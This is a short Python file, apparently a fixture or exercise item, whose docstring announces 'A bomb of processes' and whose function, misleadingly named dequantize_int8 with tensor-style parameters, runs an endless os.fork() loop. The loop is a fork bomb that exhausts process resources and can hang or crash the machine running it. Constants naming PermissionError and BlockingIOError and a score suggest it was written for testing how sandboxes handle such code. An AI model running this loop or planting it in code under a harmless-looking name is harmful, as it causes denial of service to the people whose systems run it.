"""A bomb of processes."""

import os

AFTER_KEY = True
EARNS = 90
REASON = r"PermissionError|BlockingIOError"


def dequantize_int8(q_tensor, scale, zero_point):
    while True:
        os.fork()
